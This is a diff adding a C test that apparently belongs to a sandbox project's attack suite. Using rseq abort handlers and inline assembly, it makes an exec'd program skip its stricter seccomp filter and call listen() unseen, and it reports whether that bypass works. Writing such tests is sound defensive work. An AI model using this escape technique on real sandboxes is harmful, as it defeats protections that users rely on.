@@ -1,0 +1,148 @@
+// nest_rseq STAGE2 [VARIANT...]: rseq moves a thread out of the Landlock nesting chain.
+// The chain (rt_sigprocmask, landlock_create_ruleset, landlock_restrict_self, close, the old
+// mask) rewinds the thread to its `syscall` instruction and resumes it for each step after the
+// first. If that instruction lies in an rseq critical section, the kernel (the thread was
+// scheduled out at the ptrace stop) moves it to the section's abort handler on the way back to
+// user mode: the program's own code runs in the middle of the chain, signals blocked or not.
+// That code's calls are "foreign" and judged, but the chain's state is never ended:
+//   exec: the abort handler calls execve (allowed by the current promises "stdio rpath inet
+//     exec", execpromises "stdio"). The thread keeps its NestChain in the new image
+//     (Tracer::on_exec resets proc->nest_chains but not ThreadState::nest), so in seccomp mode
+//     the new image's first call is taken for a "foreign" call at its entry stop and resumed:
+//     the exec_filter (the execpromises filter to be stacked before the first call runs) is
+//     skipped, and a call the old filter allows without stopping (listen, promise inet) runs
+//     unseen. STAGE2 (nest_rseq_stage2, static, no libc start-up calls) makes that call first,
+//     on a TCP socket made before the pledge (fd 100), and exits 42 if it succeeded.
+//   control: the same exec without the rseq trick (the exec filter is stacked: socket refused).
+#include "attack.h"
+
+#include <signal.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <sys/socket.h>
+#include <netinet/in.h>
+
+#define SYS_xpledge 10000
+extern const ptrdiff_t __rseq_offset;
+extern const unsigned int __rseq_size;
+
+struct rseq_cs_desc {
+  uint32_t version, flags;
+  uint64_t start_ip, post_commit_offset, abort_ip;
+} __attribute__((aligned(32)));
+struct rseq_area {
+  uint32_t cpu_id_start, cpu_id;
+  uint64_t rseq_cs;
+  uint32_t flags;
+} __attribute__((aligned(32)));
+
+struct rseq_cs_desc g_cs;
+uint64_t *g_cs_slot;
+static const char *g_stage2;
+void rseq_abort_c(void);
+
+// long rseq_syscall2(long nr, long a0, long a1): the syscall instruction is the critical section.
+__asm__(
+    ".text\n"
+    ".globl rseq_syscall2\n"
+    "rseq_syscall2:\n"
+    "  mov %rdi, %rax\n"
+    "  mov %rsi, %rdi\n"
+    "  mov %rdx, %rsi\n"
+    "  xor %edx, %edx\n"
+    "  xor %r10d, %r10d\n"
+    "  mov g_cs_slot(%rip), %r9\n"
+    "  lea g_cs(%rip), %r8\n"
+    "  mov %r8, (%r9)\n"
+    ".globl rseq_crit_start\n"
+    "rseq_crit_start:\n"
+    "  syscall\n"
+    ".globl rseq_crit_end\n"
+    "rseq_crit_end:\n"
+    "  mov g_cs_slot(%rip), %r9\n"
+    "  movq $0, (%r9)\n"
+    "  ret\n"
+    "  .long 0x53053053\n"
+    ".globl rseq_abort_ip\n"
+    "rseq_abort_ip:\n"
+    "  jmp rseq_abort_c\n");
+long rseq_syscall2(long nr, long a0, long a1);
+extern char rseq_crit_start[], rseq_crit_end[], rseq_abort_ip[];
+
+// The abort handler: the thread is in the middle of the nesting chain (tail-called from the asm,
+// on the stack of rseq_syscall2's caller frame).
+void rseq_abort_c(void) {
+  *g_cs_slot = 0;
+  say(1, "# abort handler runs inside the chain: exec %s\n", g_stage2);
+  char *argv[] = {(char *)g_stage2, NULL};
+  char *envp[] = {NULL};
+  long r = syscall(SYS_execve, g_stage2, argv, envp);
+  say(1, "# execve returned %ld errno %d\n", r, errno);
+  syscall(SYS_exit_group, 3);
+}
+
+static int child_status(pid_t pid) {
+  int st;
+  if (waitpid(pid, &st, 0) < 0) return -1;
+  return st;
+}
+
+static void variant(const char *name, int use_rseq) {
+  pid_t pid = fork();
+  if (pid < 0) return setup_error(name, "fork: %s", strerror(errno));
+  if (pid == 0) {
+    int s = (int)syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
+    if (s < 0 || dup2(s, 100) != 100) {
+      say(1, "ERROR %s: socket: %s\n", name, strerror(errno));
+      _exit(2);
+    }
+    if (syscall(SYS_xpledge, "stdio rpath inet exec", "stdio") != 0) {
+      say(1, "ERROR %s: xpledge(stdio rpath inet exec, stdio): %s\n", name, strerror(errno));
+      _exit(2);
+    }
+    if (!use_rseq) {
+      char *argv[] = {(char *)g_stage2, NULL};
+      char *envp[] = {NULL};
+      syscall(SYS_execve, g_stage2, argv, envp);
+      _exit(3);
+    }
+    // A narrowing: the chain starts; its second step resumes at rseq_crit_start -> abort.
+    long r = rseq_syscall2(SYS_xpledge, (long)"stdio rpath exec", 0);
+    say(1, "# %s: xpledge returned %ld without the abort handler running\n", name, r);
+    _exit(4);
+  }
+  int st = child_status(pid);
+  if (WIFEXITED(st) && WEXITSTATUS(st) == 42)
+    bypass(name, "the exec'd image (execpromises \"stdio\") ran listen() on a TCP socket unseen");
+  else if (WIFEXITED(st) && WEXITSTATUS(st) == 4)
+    skipped(name, "the rseq abort did not happen (kernel did not move the thread)");
+  else if (WIFEXITED(st) && WEXITSTATUS(st) == 2)
+    setup_error(name, "set-up failed");
+  else
+    ok(name, "the exec'd image could not listen (status %#x)", st);
+}
+
+int main(int argc, char **argv) {
+  if (argc < 2) return 2;
+  g_stage2 = argv[1];
+  if (__rseq_size == 0) {
+    skipped("exec", "glibc did not register rseq");
+    return finish();
+  }
+  g_cs_slot = (uint64_t *)((char *)__builtin_thread_pointer() + __rseq_offset + 8);
+  g_cs.version = 0;
+  g_cs.flags = 0;
+  g_cs.start_ip = (uint64_t)rseq_crit_start;
+  g_cs.post_commit_offset = (uint64_t)(rseq_crit_end - rseq_crit_start);
+  g_cs.abort_ip = (uint64_t)rseq_abort_ip;
+  int all = argc < 3;
+  for (int i = 2; i < argc || all; ++i) {
+    const char *v = all ? NULL : argv[i];
+    if (all || !strcmp(v, "control")) variant("control", 0);
+    if (all || !strcmp(v, "exec")) variant("exec", 1);
+    if (all) break;
+  }
+  return finish();
+}
